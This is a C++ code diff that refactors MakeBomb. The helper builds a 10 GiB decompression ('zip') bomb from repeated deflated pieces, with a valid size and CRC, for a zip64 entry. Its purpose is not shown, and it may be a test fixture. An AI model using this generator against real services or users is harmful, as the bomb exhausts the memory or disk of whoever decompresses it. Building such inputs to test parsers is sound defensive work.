@@ -12,16 +12,16 @@ namespace coursera::campaign {
 
 constexpr uint64_t kBombBytes = uint64_t{10} << 30;
 
-// A deflate stream of `start` and then one byte all over, with its size and checksum.
+// A deflate stream of `start` and then one piece all over, with its size and checksum.
 struct Bomb {
 	std::string deflated;
 	uint64_t size = 0;
 	uint32_t crc = 0;
 };
 
-// One piece is deflated so that it ends at a byte and looks back at nothing, and then repeated.
-inline Bomb MakeBomb(const std::string& start, char filler, uint64_t size = kBombBytes) {
-	constexpr uint64_t kPiece = uint64_t{4} << 20;
+// The piece is deflated so that it ends at a byte and looks back at nothing, and then repeated.
+inline Bomb MakeBomb(const std::string& start, const std::string& piece,
+                     uint64_t size = kBombBytes) {
 	auto deflated = [](const std::string& bytes, int flush) {
 		z_stream stream{};
 		deflateInit2(&stream, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY);
@@ -39,21 +39,26 @@ inline Bomb MakeBomb(const std::string& start, char filler, uint64_t size = kBom
 		return crc32(0, reinterpret_cast<const Bytef*>(bytes.data()),
 		             static_cast<uInt>(bytes.size()));
 	};
-	const std::string piece(kPiece, filler);
 	const std::string piece_deflated = deflated(piece, Z_FULL_FLUSH);
 	const uLong piece_crc = checksum(piece);
 	Bomb bomb;
 	bomb.deflated = deflated(start, Z_FULL_FLUSH);
 	bomb.size = start.size();
 	uLong crc = checksum(start);
-	while (bomb.size + kPiece <= size) {
+	while (bomb.size + piece.size() <= size) {
 		bomb.deflated += piece_deflated;
-		bomb.size += kPiece;
-		crc = crc32_combine(crc, piece_crc, static_cast<z_off_t>(kPiece));
+		bomb.size += piece.size();
+		crc = crc32_combine(crc, piece_crc, static_cast<z_off_t>(piece.size()));
 	}
 	bomb.deflated += deflated("", Z_FINISH);
 	bomb.crc = static_cast<uint32_t>(crc);
 	return bomb;
+}
+
+// The same of one byte.
+inline Bomb MakeBomb(const std::string& start, char filler, uint64_t size = kBombBytes) {
+	constexpr uint64_t kPiece = uint64_t{4} << 20;
+	return MakeBomb(start, std::string(kPiece, filler), size);
 }
 
 // The bomb as a deflated entry, its size in a zip64 field.
